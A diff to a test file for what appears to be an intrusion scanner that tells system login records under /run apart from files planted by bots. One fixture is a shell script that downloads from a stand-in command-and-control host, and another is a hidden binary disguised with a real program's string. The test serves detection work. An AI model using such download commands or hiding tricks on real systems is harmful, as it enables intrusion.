@@ -102,7 +102,8 @@ test("below /run, what the system writes of logins is passed over, and what bots
       "/run/systemd/sessions/12": "REMOTE_HOST=203.0.113.7\n",
       "/run/sudo/ts/eve": seen,
       "/run/log/journal/0123456789abcdef0123456789abcdef/system.journal": seen,
-      "/run/.x/bot": "\x7fELF\0",
+      // A copy of a program of the system's, as bots put it there.
+      "/run/.x/bot": "\x7fELF\0Report any translation bugs to <https://translationproject.org/team/>\0",
       "/var/run/go": "#!/bin/sh\nwget http://c2.example.com/a\n",
       "/run/lock/hosts": seen,
       "/run/systemd/sessions/bot": seen,
